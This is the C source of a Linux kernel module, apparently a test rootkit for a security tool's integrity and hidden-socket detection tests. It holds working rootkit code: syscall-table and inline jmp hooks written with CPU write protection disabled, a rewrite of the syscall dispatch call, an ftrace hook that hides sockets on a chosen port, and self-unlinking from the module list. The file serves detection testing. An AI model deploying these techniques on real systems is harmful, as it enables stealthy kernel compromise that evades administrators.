// SPDX-License-Identifier: GPL-2.0
/*
 * secaas_hook: a test rootkit that takes over kernel control flow the ways
 * real ones do, for secaas's kernel integrity and hidden-socket tests.
 * Addresses come from the guest's /proc/kallsyms (the test reads them).
 *
 *   insmod secaas_hook.ko table=ADDR nr=N
 *       points sys_call_table[N] (the table at ADDR) at this module
 *   insmod secaas_hook.ko jmp=ADDR
 *       writes "jmp hook" over the first instruction of the syscall entry
 *       point at ADDR (an __x64_sys_* function): that syscall now runs this
 *       module's code and fails with EPERM
 *   insmod secaas_hook.ko show=ADDR port=P
 *       hooks the function at ADDR (tcp4_seq_show) through ftrace, as
 *       rootkits built on ftrace do, so that /proc/net/tcp (and netstat,
 *       ss) no longer shows sockets on local port P
 *   insmod secaas_hook.ko dispatch=ADDR x64=ADDR
 *       rewrites the call of x64_sys_call (at x64) in do_syscall_64 (at
 *       dispatch) to call this module's dispatcher, which counts and then
 *       calls x64_sys_call: every syscall passes through the module
 *   insmod secaas_hook.ko kprobe=ADDR
 *       puts a kprobe at ADDR (a syscall entry point) whose handler counts
 *       the calls, as rootkits that watch syscalls through kprobes do
 *   (any of them together in one load), and
 *   hide_module=1
 *       also unlinks this module from the module list (lsmod)
 *
 * Writes to kernel text and rodata are made with the CPU's write
 * protection off for the moment of the write. The module cannot be
 * unloaded. Build it only for test guests.
 */
#include <linux/module.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/irqflags.h>
#include <linux/seq_file.h>
#include <net/sock.h>
#include <asm/processor-flags.h>
#include "secaas_cr0.h"

static unsigned long table;
module_param(table, ulong, 0);
static int nr = -1;
module_param(nr, int, 0);
static unsigned long inline_at;
module_param_named(jmp, inline_at, ulong, 0);
static unsigned long show;
module_param(show, ulong, 0);
static int port;
module_param(port, int, 0);
static unsigned long dispatch;
module_param(dispatch, ulong, 0);
static unsigned long x64;
module_param(x64, ulong, 0);
static unsigned long kp_at;
module_param_named(kprobe, kp_at, ulong, 0);
static int hide_module;
module_param(hide_module, int, 0);

static atomic_t hits = ATOMIC_INIT(0);

static long hook_syscall(const struct pt_regs *regs)
{
	atomic_inc(&hits);
	return -EPERM;
}

static void poke(void *dst, const void *src, size_t n)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = cr0_get();
	cr0_set(cr0 & ~X86_CR0_WP);
	memcpy(dst, src, n);
	cr0_set(cr0);
	local_irq_restore(flags);
}

static long (*orig_dispatch)(const struct pt_regs *regs, unsigned int nr);

static long hook_dispatch(const struct pt_regs *regs, unsigned int nr)
{
	atomic_inc(&hits);
	return orig_dispatch(regs, nr);
}

/* The call of target in the first 512 bytes of fn, or 0. */
static unsigned long find_call(unsigned long fn, unsigned long target)
{
	int i;

	for (i = 0; i < 512; i++) {
		unsigned char *p = (unsigned char *)fn + i;

		if (p[0] == 0xe8 && fn + i + 5 + *(int *)(p + 1) == target)
			return fn + i;
	}
	return 0;
}

static int (*orig_show)(struct seq_file *seq, void *v);

static int hooked_show(struct seq_file *seq, void *v)
{
	if (v != SEQ_START_TOKEN && ((struct sock_common *)v)->skc_num == port)
		return 0;
	return orig_show(seq, v);
}

static void notrace ftrace_thunk(unsigned long ip, unsigned long parent_ip,
				 struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs)
		regs->ip = (unsigned long)hooked_show;
}

static int kp_pre(struct kprobe *p, struct pt_regs *regs)
{
	atomic_inc(&hits);
	return 0;
}

static struct kprobe kp = { .pre_handler = kp_pre };

static struct ftrace_ops hook_ops = {
	.func = ftrace_thunk,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int __init hook_init(void)
{
	int err;

	if (!(table && nr >= 0 && nr < 512) && !inline_at && !(show && port) && !kp_at && !(dispatch && x64))
		return -EINVAL;
	if (table && nr >= 0 && nr < 512) {
		unsigned long fn = (unsigned long)hook_syscall;

		poke((unsigned long *)table + nr, &fn, sizeof(fn));
		pr_info("secaas_hook: sys_call_table[%d] -> %px\n", nr, hook_syscall);
	}
	if (inline_at) {
		unsigned char jmp[5] = { 0xe9 };
		long rel = (long)hook_syscall - (long)(inline_at + 5);

		if (rel != (int)rel)
			return -EINVAL;
		*(int *)(jmp + 1) = (int)rel;
		poke((void *)inline_at, jmp, sizeof(jmp));
		pr_info("secaas_hook: %lx jumps to %px\n", inline_at, hook_syscall);
	}
	if (show && port) {
		/* Past the fentry nop: the original runs without recursing. */
		orig_show = (void *)(show + MCOUNT_INSN_SIZE);
		err = ftrace_set_filter_ip(&hook_ops, show, 0, 0);
		if (err)
			return err;
		err = register_ftrace_function(&hook_ops);
		if (err)
			return err;
		pr_info("secaas_hook: %lx hooked through ftrace, hiding port %d\n", show, port);
	}
	if (dispatch && x64) {
		unsigned long site = find_call(dispatch, x64);
		unsigned char call[5] = { 0xe8 };
		long rel = (long)hook_dispatch - (long)(site + 5);

		if (!site || rel != (int)rel)
			return -EINVAL;
		orig_dispatch = (void *)x64;
		*(int *)(call + 1) = (int)rel;
		poke((void *)site, call, sizeof(call));
		pr_info("secaas_hook: the dispatch call at %lx now reaches %px\n", site, hook_dispatch);
	}
	if (kp_at) {
		kp.addr = (kprobe_opcode_t *)kp_at;
		err = register_kprobe(&kp);
		if (err)
			return err;
		pr_info("secaas_hook: kprobe at %lx\n", kp_at);
	}
	if (hide_module) {
		list_del_rcu(&THIS_MODULE->list);
		INIT_LIST_HEAD(&THIS_MODULE->list);
	}
	return 0;
}

module_init(hook_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("secaas test rootkit: syscall table, inline and ftrace hooks");
